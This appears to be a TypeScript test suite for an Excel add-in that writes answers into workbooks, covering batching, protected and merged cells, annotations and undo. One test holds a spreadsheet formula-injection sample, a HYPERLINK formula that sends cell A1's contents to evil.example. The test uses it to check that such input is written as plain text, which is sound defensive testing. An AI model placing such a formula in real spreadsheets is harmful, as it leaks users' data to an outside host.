import { describe, expect, it } from 'vitest';
import { createExcelWorkbook, memoryStorage, TRUST_FILLS } from '../../src/excel';
import { splitAreaAddresses } from '../../src/excel/workbook';
import { manyQuestions, q, setupHost } from './helpers';

const TABS = ['T1', 'T2', 'T3', 'T4', 'T5'];

async function fillCount(count: number) {
  const host = setupHost(TABS);
  const wb = createExcelWorkbook({ storage: memoryStorage() });
  const plan = await wb.plan(manyQuestions(count, TABS), {});
  const planSyncs = host.stats.syncs;
  host.resetStats();
  const result = await wb.apply(plan, {});
  return { host, plan, planSyncs, result, applySyncs: host.stats.syncs };
}

describe('apply: batching', () => {
  it('uses the same number of syncs for 100 and 5,000 answers on 5 tabs', async () => {
    const small = await fillCount(100);
    const large = await fillCount(5000);
    expect(small.result.written).toBe(100);
    expect(large.result.written).toBe(5000);
    expect(large.applySyncs).toBe(small.applySyncs);
    expect(large.planSyncs).toBe(small.planSyncs);
    expect(large.applySyncs).toBeLessThanOrEqual(4);
    expect(large.result.syncs).toBe(large.applySyncs);
    expect(large.host.getCell('T3', 'C1001').value).toBe('Answer number 5002'.replace('5002', String(2 + 5 * 999)));
  });

  it('halves a chunk Excel rejects as too large and still writes everything', async () => {
    const host = setupHost(TABS, { payloadLimitBytes: 20_000 });
    // A budget above the host's limit: the first request is rejected and must be split.
    const wb = createExcelWorkbook({ storage: memoryStorage(), payloadBudgetBytes: 1_000_000 });
    const questions = manyQuestions(500, TABS, (i) => `Answer ${i} ${'x'.repeat(100)}`);
    const plan = await wb.plan(questions, {});
    host.resetStats();
    const result = await wb.apply(plan, {});
    expect(host.stats.rejectedSyncs).toBeGreaterThan(0);
    expect(result.failed).toEqual([]);
    expect(result.written).toBe(500);
    for (const sheet of TABS) expect(host.getCell(sheet, 'C2').value).toMatch(/^Answer \d+ x+$/);
    expect(Math.max(...host.stats.payloadBytes.filter((b) => b <= 20_000))).toBeLessThanOrEqual(20_000);
  });

  it('splits reads whose response Excel refuses as too large, and still plans, writes and undoes everything', async () => {
    const host = setupHost(['T1'], { responseLimitBytes: 20_000 });
    for (let r = 2; r < 202; r++) host.setCell('T1', `C${r}`, { value: `Typed by the analyst ${r} ${'w'.repeat(300)}` });
    const before = host.snapshot();
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    const plan = await wb.plan(manyQuestions(200, ['T1']), { overwrite: true });
    expect(plan.writes).toHaveLength(200);
    const result = await wb.apply(plan, {});
    expect(result.failed).toEqual([]);
    expect(result.written).toBe(200);
    expect(host.stats.rejectedSyncs).toBeGreaterThan(0);
    expect(host.getCell('T1', 'C201').value).toBe('Answer number 199');
    const undone = await wb.undo();
    expect(undone?.failed).toBeUndefined();
    expect(host.snapshot()).toEqual(before);
  });

  it('splits a single huge block by rows to stay under the budget', async () => {
    const host = setupHost(['T1']);
    const wb = createExcelWorkbook({ storage: memoryStorage(), payloadBudgetBytes: 50_000 });
    const plan = await wb.plan(
      manyQuestions(2000, ['T1'], (i) => `Long answer ${i} ${'y'.repeat(80)}`),
      {},
    );
    host.resetStats();
    const result = await wb.apply(plan, {});
    expect(result.written).toBe(2000);
    expect(host.stats.rejectedSyncs).toBe(0);
    expect(Math.max(...host.stats.payloadBytes)).toBeLessThanOrEqual(5 * 1024 * 1024);
    expect(host.stats.syncs).toBeGreaterThan(3);
  });

  it('suspends calculation per chunk where supported (1.6+) and not on ExcelApi 1.1', async () => {
    const host = setupHost(['T1'], { excelApiVersion: '1.6' });
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    await wb.apply(await wb.plan(manyQuestions(10, ['T1']), {}), {});
    expect(host.stats.calculationSuspensions).toBe(1);

    const old = setupHost(['T1'], { excelApiVersion: '1.1' });
    const oldWb = createExcelWorkbook({ storage: memoryStorage() });
    const result = await oldWb.apply(await oldWb.plan(manyQuestions(10, ['T1']), {}), { highlight: true, sourceNotes: true });
    expect(result.written).toBe(10);
    expect(old.stats.calculationSuspensions).toBe(0);
    expect(result.warnings?.join(' ')).toMatch(/notes/);
    const withSources = manyQuestions(10, ['T1']).filter((x) => x.answers[0]!.source_evidence?.length).length;
    expect(result.annotationGaps).toEqual(withSources ? [{ kind: 'note', why: 'unsupported', tab: null, count: withSources }] : undefined);
  });

  it('writes an answer starting with =HYPERLINK( as text, never as a formula', async () => {
    const host = setupHost(['Sheet1']);
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const plan = await wb.plan([q('Sheet1', 'C2', evil), q('Sheet1', 'C3', '+1 555 0100'), q('Sheet1', 'C4', '00123'), q('Sheet1', 'C5', 'Plain')], {});
    expect(plan.writes.map((w) => w.forceText)).toEqual([true, true, true, false]);
    await wb.apply(plan, {});
    expect(host.getCell('Sheet1', 'C2')).toMatchObject({ formula: null, value: evil });
    expect(host.getCell('Sheet1', 'C3')).toMatchObject({ formula: null, value: '+1 555 0100' });
    expect(host.getCell('Sheet1', 'C4')).toMatchObject({ formula: null, value: '00123' });
    expect(host.getCell('Sheet1', 'C5')).toMatchObject({ value: 'Plain', quotePrefix: false });
  });

  it('never writes document settings', async () => {
    const host = setupHost(['Sheet1']);
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    await wb.apply(await wb.plan(manyQuestions(5, ['Sheet1']), {}), { highlight: true, sourceNotes: true });
    await wb.undo();
    expect(host.stats.settingsWrites).toBe(0);
  });
});

describe('apply: safety', () => {
  it('reports locked cells of a protected sheet instead of crashing, and writes its unlocked cells', async () => {
    const host = setupHost(['Locked']);
    host.setCell('Locked', 'C3', { locked: false });
    host.protect('Locked');
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    const plan = await wb.plan([q('Locked', 'C2', 'a'), q('Locked', 'C3', 'b')], {});
    expect(plan.skipped.map((s) => [s.address, s.reason])).toEqual([['C2', 'protected']]);
    const result = await wb.apply(plan, { highlight: true, sourceNotes: true });
    expect(result.written).toBe(1);
    expect(host.getCell('Locked', 'C3').value).toBe('b');
    expect(host.getCell('Locked', 'C3').fill).toBeNull();
    expect(result.warnings).toEqual(expect.arrayContaining(['1 answer on "Locked" has no trust colour: the sheet is protected.']));
    expect(result.annotationGaps).toContainEqual({ kind: 'colour', why: 'protected', tab: 'Locked', count: 1 });
  });

  it('fails cleanly for cells that became locked or formulas between plan and apply', async () => {
    const host = setupHost(['S']);
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    const plan = await wb.plan([q('S', 'C2', 'a'), q('S', 'C3', 'b'), q('S', 'C4', 'c')], {});
    host.setCell('S', 'C3', { formula: '=1+1', value: 2 });
    const result = await wb.apply(plan, {});
    expect(result.failed).toEqual([{ tab: 'S', address: 'C3', reason: expect.stringMatching(/formula/) }]);
    expect(host.getCell('S', 'C3').formula).toBe('=1+1');
    expect(result.written).toBe(2);

    const plan2 = await wb.plan([q('S', 'D2', 'x')], {});
    host.protect('S');
    const r2 = await wb.apply(plan2, {});
    expect(r2.written).toBe(0);
    expect(r2.failed[0]).toMatchObject({ address: 'D2', reason: expect.stringMatching(/protected/) });
  });

  it('isolates a refused cell when the protection state cannot be read (ExcelApi 1.1)', async () => {
    const host = setupHost(['S'], { excelApiVersion: '1.1' });
    host.setCell('S', 'C2', { locked: false });
    host.setCell('S', 'C3', { locked: false });
    host.protect('S');
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    const plan = await wb.plan([q('S', 'C2', 'a'), q('S', 'C3', 'b'), q('S', 'C4', 'c')], {});
    expect(plan.writes).toHaveLength(3);
    const result = await wb.apply(plan, {});
    expect(result.failed).toEqual([{ tab: 'S', address: 'C4', reason: expect.stringMatching(/protected/) }]);
    expect(result.written).toBe(2);
    expect(host.getCell('S', 'C2').value).toBe('a');
  });

  it('finds a merged area that starts left of every target cell (Excel lists merges by their top-left cell)', async () => {
    const host = setupHost(['M']);
    host.merge('M', 'C5:E5');
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    const plan = await wb.plan([q('M', 'D5', 'merged answer')], {});
    expect(plan.writes.map((w) => w.address)).toEqual(['C5']);
    const result = await wb.apply(plan, {});
    expect(result.failed).toEqual([]);
    expect(host.getCell('M', 'C5').value).toBe('merged answer');
  });

  it('writes a slot inside a merged area at its top-left cell and keeps the merge', async () => {
    const host = setupHost(['M']);
    host.merge('M', 'C5:E5');
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    const plan = await wb.plan([q('M', 'D5', 'merged answer'), q('M', 'C6:E6', 'range slot')], {});
    expect(plan.writes.map((w) => w.address)).toEqual(['C5', 'C6']);
    await wb.apply(plan, {});
    expect(host.getCell('M', 'C5').value).toBe('merged answer');
    expect(host.snapshot().sheets[0]!.merges).toEqual(['C5:E5']);
  });
});

describe('apply: merged areas as Excel lists them', () => {
  it('reads RangeAreas.address ("A, B" form) on a sheet whose name holds a comma', async () => {
    const host = setupHost(['Q1, 2024']);
    host.merge('Q1, 2024', 'C5:E5');
    host.merge('Q1, 2024', 'C7:E8');
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    const plan = await wb.plan([q('Q1, 2024', 'D5', 'first'), q('Q1, 2024', 'E8', 'second')], {});
    expect(plan.writes.map((w) => w.address)).toEqual(['C5', 'C7']);
    const result = await wb.apply(plan, {});
    expect(result.failed).toEqual([]);
    expect(host.getCell('Q1, 2024', 'C5').value).toBe('first');
    expect(host.getCell('Q1, 2024', 'C7').value).toBe('second');
  });

  it('splits area addresses only at commas outside quoted sheet names', () => {
    expect(splitAreaAddresses("'Q1, 2024'!C5:E5, 'Q1, 2024'!C7:E8")).toEqual(["'Q1, 2024'!C5:E5", "'Q1, 2024'!C7:E8"]);
    expect(splitAreaAddresses("'it''s, ok'!A1:B2,Sheet1!C3:D4")).toEqual(["'it''s, ok'!A1:B2", 'Sheet1!C3:D4']);
    expect(splitAreaAddresses('Sheet1!A1:B1')).toEqual(['Sheet1!A1:B1']);
  });
});

describe('apply: annotations', () => {
  const cases = [
    { version: '1.18', notes: { C2: expect.stringContaining('policy.pdf p.3') }, comments: {} },
    { version: '1.10', notes: {}, comments: { C2: expect.stringContaining('policy.pdf p.3') } },
    { version: '1.9', notes: {}, comments: {} },
  ];
  it.each(cases)('ExcelApi $version: colours by trust and adds sources as note/comment/nothing; undo removes them', async ({ version, notes, comments }) => {
    const host = setupHost(['S'], { excelApiVersion: version });
    host.setCell('S', 'C3', { fill: '#123456' });
    const before = host.snapshot();
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    const low = q('S', 'C3', 'b');
    (low.answers[0]!.evaluation as { trust: string }).trust = 'low';
    const none = q('S', 'C4', 'c');
    none.answers[0]!.evaluation = undefined;
    none.answers[0]!.source_evidence = [];
    // Drafts written on request still get their (low) trust colour.
    await wb.apply(await wb.plan([q('S', 'C2', 'a'), low, none], { writeDrafts: true }), { highlight: true, sourceNotes: true });
    const after = host.snapshot().sheets[0]!;
    expect(after.cells.C2!.fill).toBe(TRUST_FILLS.high);
    expect(after.cells.C3!.fill).toBe(TRUST_FILLS.low);
    expect(after.cells.C4!.fill).toBeNull();
    expect(after.notes).toEqual(Object.keys(notes).length ? { ...notes, C3: expect.any(String) } : {});
    expect(after.comments).toEqual(Object.keys(comments).length ? { ...comments, C3: expect.any(String) } : {});
    const undone = await wb.undo();
    expect(undone?.failed).toBeUndefined();
    expect(host.snapshot()).toEqual(before);
  });

  it('uses no API above the excelApiVersion cap, even when Excel has it', async () => {
    const host = setupHost(['S'], { excelApiVersion: '1.18' });
    const wb = createExcelWorkbook({ storage: memoryStorage(), excelApiVersion: '1.9' });
    const result = await wb.apply(await wb.plan([q('S', 'C2', 'a')], {}), { highlight: true, sourceNotes: true });
    expect(result.written).toBe(1);
    expect(host.snapshot().sheets[0]!.notes).toEqual({});
    expect(host.snapshot().sheets[0]!.comments).toEqual({});
    expect(host.getCell('S', 'C2').fill).toBe(TRUST_FILLS.high);
  });

  it('keeps a note the analyst already had', async () => {
    const host = setupHost(['S']);
    host.sheet('S').notes.set('C2', { content: 'mine', author: 'Analyst' });
    const wb = createExcelWorkbook({ storage: memoryStorage() });
    await wb.apply(await wb.plan([q('S', 'C2', 'a'), q('S', 'C3', 'b')], {}), { sourceNotes: true });
    expect(host.snapshot().sheets[0]!.notes).toEqual({ C2: 'mine', C3: expect.stringContaining('Sources:') });
    await wb.undo();
    expect(host.snapshot().sheets[0]!.notes).toEqual({ C2: 'mine' });
  });
});
